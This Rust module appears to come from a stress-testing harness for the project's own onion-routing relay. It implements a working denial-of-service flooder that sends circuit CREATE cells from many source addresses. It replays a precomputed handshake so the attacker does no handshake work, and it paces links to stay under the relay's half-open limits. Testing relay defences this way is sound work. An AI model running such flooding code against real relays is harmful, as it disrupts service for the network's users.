//! The attacker: links from many addresses, each of which sends CREATEs as fast as the relay answers them.

use std::{
    cell::RefCell,
    collections::{HashMap, HashSet, VecDeque},
    net::IpAddr,
    rc::Rc,
    time::Duration,
};

use rand::rngs::StdRng;
use tokio::{
    task::LocalSet,
    time::{interval, sleep},
};
use umbel::{
    base::{CircuitId, DialTarget, HopIndex, Instant, RelayId},
    channel::{ChannelEvent, ChannelId, Channels},
    circuit::{CircuitEvent, Origin},
    directory::Consensus,
    flow::FlowParameters,
    handshake::{ClientHandshake, RelayKeys},
    wire::{Cell, Command, create_cells},
};

use super::{
    Outcome, listed,
    party::{Party, User},
};

/// CREATEs of a link without an answer yet.
const MAX_UNANSWERED: usize = 256;
/// The same for a link whose circuits are extended. More CREATEs would take the processor time for EXTENDs from relays
/// that share a core.
const MAX_UNANSWERED_EXTENDED: usize = 4;
/// Interval between the starts of two links, so that their DTLS handshakes stay below the cap of half-open links.
const START_INTERVAL: Duration = Duration::from_millis(4);
/// Pause before a closed link is opened again.
const REOPEN_PAUSE: Duration = Duration::from_secs(1);
const HOP_TIMEOUT: Duration = Duration::from_secs(10);
/// Interval between two CREATEs of a link whose circuits are extended, at the rate that a relay accepts. A link queues
/// the first cell of a circuit ahead of later cells, so more CREATEs would delay the EXTENDs.
const EXTENDED_INTERVAL: Duration = Duration::from_millis(20);
/// Longest wait of an idle link.
const IDLE_INTERVAL: Duration = Duration::from_secs(1);

/// What each link does.
#[derive(Clone)]
pub(crate) struct Plan {
    target: DialTarget,
    /// The path of circuits that the attacker extends.
    path: Option<Vec<RelayKeys>>,
    /// A request that every CREATE repeats, so that the attacker performs no handshakes.
    request: Vec<u8>,
    links: usize,
    hold: usize,
    /// The links stay idle.
    idle: bool,
}

impl Plan {
    pub(crate) fn new(
        consensus: &Consensus,
        relay: RelayId,
        extend: Option<RelayId>,
        links: usize,
        hold: usize,
    ) -> Outcome<Self> {
        let attacked = listed(consensus, &relay)?;
        let next = extend.map(|relay| listed(consensus, &relay)).transpose()?;
        let path = next.map(|next| vec![attacked.keys(), next.keys()]);
        let mut rng: StdRng = rand::make_rng();
        let (_, request) = ClientHandshake::start(&attacked.keys(), HopIndex::FIRST, &[], &mut rng)?;
        Ok(Self { target: attacked.dial_target(), path, request, links, hold, idle: false })
    }

    /// Opens the links and sends no CREATE on them.
    pub(crate) fn idle(self) -> Self {
        Self { idle: true, ..self }
    }
}

/// Counts of all links.
#[derive(Default)]
struct Counts {
    open: usize,
    closed: usize,
    sent: u64,
    created: u64,
    extended: u64,
    refused: u64,
    /// Circuits that the relay ended after it had answered their CREATE.
    ended: u64,
}

/// Floods until it is dropped. Prints the counts every second.
pub(crate) async fn run(plan: Plan, sources: Vec<IpAddr>) -> Outcome<()> {
    let counts = Rc::new(RefCell::new(Counts::default()));
    let tasks = LocalSet::new();
    let mut parties = 0_u32;
    for _ in 0..plan.links {
        for source in &sources {
            let (plan, counts, source) = (plan.clone(), Rc::clone(&counts), *source);
            let pause = START_INTERVAL.saturating_mul(parties);
            parties = parties.saturating_add(1);
            tasks.spawn_local(async move {
                sleep(pause).await;
                if let Err(error) = flood(plan, source, counts).await {
                    eprintln!("a link of the attacker failed: {error}");
                }
            });
        }
    }
    let report = async {
        let mut ticks = interval(Duration::from_secs(1));
        loop {
            ticks.tick().await;
            let Counts { open, closed, sent, created, extended, refused, ended } = &*counts.borrow();
            println!(
                "open {open} closed {closed} sent {sent} created {created} extended {extended} refused {refused} ended {ended}"
            );
        }
    };
    tasks.run_until(report).await
}

/// Floods over one link, and opens it again when it closes.
async fn flood(plan: Plan, source: IpAddr, counts: Rc<RefCell<Counts>>) -> Outcome<()> {
    let mut party = Party::bind(source).await?;
    loop {
        let mut link = Link { plan: plan.clone(), counts: Rc::clone(&counts), state: LinkState::Opening, ended: false };
        let now = party.now();
        party.channels.connect(now, &plan.target);
        while !link.ended {
            party.turn(if plan.idle { IDLE_INTERVAL } else { EXTENDED_INTERVAL }, &mut link).await?;
        }
        sleep(REOPEN_PAUSE).await;
    }
}

/// One link of the attacker.
struct Link {
    plan: Plan,
    counts: Rc<RefCell<Counts>>,
    state: LinkState,
    ended: bool,
}

enum LinkState {
    Opening,
    Open(OpenLink),
}

struct OpenLink {
    channel: ChannelId,
    /// The time of the next CREATE, if circuits are extended.
    next_create: Instant,
    unanswered: HashSet<CircuitId>,
    /// Circuits that stand, the oldest first. May contain circuits that have ended since.
    held: VecDeque<CircuitId>,
    /// The origins of circuits that are extended.
    origins: HashMap<CircuitId, Origin>,
}

impl User for Link {
    fn handle_event(&mut self, now: Instant, event: ChannelEvent, channels: &mut Channels, rng: &mut StdRng) {
        let mut counts = self.counts.borrow_mut();
        match (event, &mut self.state) {
            (ChannelEvent::Open { channel, .. }, _) => {
                counts.open = counts.open.saturating_add(1);
                let (unanswered, held, origins) = (HashSet::new(), VecDeque::new(), HashMap::new());
                self.state = LinkState::Open(OpenLink { channel, next_create: now, unanswered, held, origins });
            }
            (ChannelEvent::Cell { cell, .. }, LinkState::Open(link)) => {
                let Some(circuit) = cell.circuit() else { return };
                let command = cell.command();
                let answers = link.unanswered.remove(&circuit);
                match command {
                    Command::Created if answers => {
                        counts.created = counts.created.saturating_add(1);
                        link.held.push_back(circuit);
                    }
                    Command::Destroy if answers => counts.refused = counts.refused.saturating_add(1),
                    Command::Destroy => counts.ended = counts.ended.saturating_add(1),
                    _ => {}
                }
                if let Some(origin) = link.origins.get_mut(&circuit) {
                    origin.handle_cell(now, cell, rng);
                    while let Some(event) = origin.poll_event() {
                        if event == CircuitEvent::Built {
                            counts.extended = counts.extended.saturating_add(1);
                        }
                    }
                    while let Some(cell) = origin.poll_cell(now, rng) {
                        let _ = channels.send(link.channel, cell);
                    }
                }
                if command == Command::Destroy {
                    link.origins.remove(&circuit);
                }
                if link.held.len() > self.plan.hold
                    && let Some(oldest) = link.held.pop_front()
                {
                    link.origins.remove(&oldest);
                    let _ = channels.send(link.channel, Cell::destroy(oldest));
                    channels.end_circuit(now, link.channel, oldest);
                }
            }
            (ChannelEvent::DialFailed { .. }, _) => self.ended = true,
            (ChannelEvent::Closed { .. }, _) => {
                (counts.open, counts.closed) = (counts.open.saturating_sub(1), counts.closed.saturating_add(1));
                self.ended = true;
            }
            _ => {}
        }
    }

    fn send(&mut self, now: Instant, channels: &mut Channels, rng: &mut StdRng) {
        let LinkState::Open(link) = &mut self.state else { return };
        if self.plan.idle {
            return;
        }
        let mut sent = 0_u64;
        let extends = self.plan.path.is_some();
        let max_unanswered = if extends { MAX_UNANSWERED_EXTENDED } else { MAX_UNANSWERED };
        while link.unanswered.len() < max_unanswered && (!extends || now >= link.next_create) {
            let Some(circuit) = channels.allocate_circuit(link.channel, rng) else { break };
            let cells = match &self.plan.path {
                Some(path) => {
                    link.next_create = link.next_create.after(EXTENDED_INTERVAL);
                    let flow = FlowParameters::default();
                    let Ok(mut origin) = Origin::start(now, path.clone(), circuit, flow, HOP_TIMEOUT, rng) else {
                        break;
                    };
                    let cells = std::iter::from_fn(|| origin.poll_cell(now, rng)).collect();
                    link.origins.insert(circuit, origin);
                    cells
                }
                None => create_cells(circuit, HopIndex::FIRST, &self.plan.request).unwrap_or_default(),
            };
            for cell in cells {
                let _ = channels.send(link.channel, cell);
            }
            link.unanswered.insert(circuit);
            sent = sent.saturating_add(1);
        }
        let mut counts = self.counts.borrow_mut();
        counts.sent = counts.sent.saturating_add(sent);
    }
}
